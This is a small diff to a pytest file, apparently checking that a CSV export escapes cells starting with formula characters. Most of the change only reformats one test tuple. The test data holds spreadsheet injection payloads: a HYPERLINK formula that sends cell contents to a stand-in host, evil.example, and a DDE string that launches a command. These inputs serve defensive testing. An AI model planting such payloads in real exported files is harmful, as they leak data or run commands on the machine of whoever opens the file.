@@ -82,7 +82,10 @@ def test_csv_query_count_is_one_per_chunk(api, django_assert_max_num_queries):
 @pytest.mark.parametrize(
     ("value", "cell"),
     [
-        ('=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
+        (
+            '=HYPERLINK("https://evil.example/?"&A1,"click")',
+            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
+        ),
         ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
         ("-2+3", "'-2+3"),
         ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
